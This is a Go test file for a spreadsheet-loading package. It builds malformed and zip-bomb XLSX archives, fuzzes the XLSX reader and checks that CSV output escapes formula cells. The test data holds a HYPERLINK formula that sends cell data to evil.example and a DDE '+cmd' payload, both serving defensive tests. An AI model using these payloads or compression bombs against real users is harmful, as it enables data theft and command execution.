package register

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"hash/crc32"
	"io"
	"io/fs"
	"os"
	"reflect"
	"strings"
	"testing"
	"testing/fstest"

	"gongkai/generator/limits"
)

const (
	workbookXML = `<workbook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" r:id="rId1"/></sheets></workbook>`
	relsXML     = `<Relationships><Relationship Id="rId1" Target="worksheets/sheet1.xml"/></Relationships>`
	sheetXML    = `<worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>编号</t></is></c></row></sheetData></worksheet>`
)

// lyingZip writes a workbook whose sheet is body followed by pad spaces,
// and whose directory declares the sheet's inflated size as declared.
func lyingZip(t testing.TB, body string, pad int64, declared uint64) []byte {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, p := range [][2]string{{"xl/workbook.xml", workbookXML}, {"xl/_rels/workbook.xml.rels", relsXML}} {
		fw, _ := w.Create(p[0])
		io.WriteString(fw, p[1])
	}
	var z bytes.Buffer
	crc := crc32.NewIEEE()
	fz, _ := flate.NewWriter(&z, flate.BestSpeed)
	out := io.MultiWriter(fz, crc)
	io.WriteString(out, body)
	io.CopyN(out, spaces{}, pad)
	fz.Close()
	fw, err := w.CreateRaw(&zip.FileHeader{Name: "xl/worksheets/sheet1.xml", Method: zip.Deflate,
		CRC32: crc.Sum32(), CompressedSize64: uint64(z.Len()), UncompressedSize64: declared})
	if err != nil {
		t.Fatal(err)
	}
	fw.Write(z.Bytes())
	w.Close()
	return b.Bytes()
}

type spaces struct{}

func (spaces) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = ' '
	}
	return len(p), nil
}

func TestHostileWorkbooks(t *testing.T) {
	for _, c := range []struct {
		name string
		xlsx []byte
		want string
	}{
		{"directory claims an exabyte", lyingZip(t, sheetXML, 0, 1<<62),
			"data/名册.xlsx: 错误：无法读取工作簿：「xl/worksheets/sheet1.xml」已损坏（压缩数据不完整或与目录记录的大小不符）"},
		{"directory claims less than there is", lyingZip(t, sheetXML, 1<<20, 10),
			"data/名册.xlsx: 错误：无法读取工作簿：「xl/worksheets/sheet1.xml」已损坏（压缩数据不完整或与目录记录的大小不符）"},
		{"zip bomb", lyingZip(t, sheetXML, limits.MaxInflated, limits.MaxInflated+uint64(len(sheetXML))),
			"data/名册.xlsx: 错误：无法读取工作簿：「xl/worksheets/sheet1.xml」解压后超过 256 MB 的上限（可能是损坏的文件或“压缩炸弹”）\n    提示：检查文件是否完好；确实这么大的表格，请拆成几个较小的工作簿。"},
	} {
		t.Run(c.name, func(t *testing.T) {
			fsys := fstest.MapFS{"data/名册.xlsx": {Data: c.xlsx}}
			_, errs := Load(fsys, testCfg(t), nil)
			if got := errs.Error(); !strings.Contains(got, c.want) {
				t.Fatalf("got\n%s\nwant\n%s", got, c.want)
			}
		})
	}
}

func TestSpecialDataFile(t *testing.T) {
	fsys := fstest.MapFS{"data/名册.csv": {Data: []byte("编号\n1\n"), Mode: fs.ModeNamedPipe}}
	_, errs := Load(fsys, testCfg(t), nil)
	want := "data/名册.csv: 警告：这是命名管道（FIFO），不是普通文件，读取它会使生成卡住，已跳过"
	if got := errs.Error(); !strings.Contains(got, want) {
		t.Fatalf("got\n%s\nwant\n%s", got, want)
	}
}

func FuzzReadXLSX(f *testing.F) {
	f.Add(lyingZip(f, sheetXML, 0, 1<<62))
	f.Add(lyingZip(f, sheetXML, 100, 10))
	f.Add(lyingZip(f, sheetXML, 0, uint64(len(sheetXML))))
	f.Fuzz(func(t *testing.T, raw []byte) {
		readXLSX("data/a.xlsx", raw) // must return, not panic
	})
}

func TestCSVFormulaCells(t *testing.T) {
	dir := t.TempDir()
	file := dir + "/units.csv"
	rows := [][]string{{"名称", "备注"},
		{"=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")", "+cmd|' /C calc'!A0"},
		{"-2+3", "@SUM(1+1)"},
		{"\t=1+1", "-5"},
		{"+3.2", "'=已转义"},
		{"-0x1p-2", "+Inf"},
		{"苏州市总工会", ""}}
	if err := WriteCSV(file, Sheet{Name: "名册", Rows: rows}); err != nil {
		t.Fatal(err)
	}
	raw, _ := os.ReadFile(file)
	want := "\ufeff名称,备注\r\n" +
		"\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点此\"\")\",'+cmd|' /C calc'!A0\r\n" +
		"'-2+3,'@SUM(1+1)\r\n" +
		"'\t=1+1,-5\r\n" +
		"+3.2,''=已转义\r\n" +
		"'-0x1p-2,'+Inf\r\n" +
		"苏州市总工会,\r\n"
	if string(raw) != want {
		t.Errorf("wrote\n%q\nwant\n%q", raw, want)
	}
	// Read back as gongkai reads data/: the cells as they were.
	tb, err := readCSV("data/units.csv", "units", raw)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(tb.rows, rows) {
		t.Errorf("read back\n%q\nwant\n%q", tb.rows, rows)
	}
}
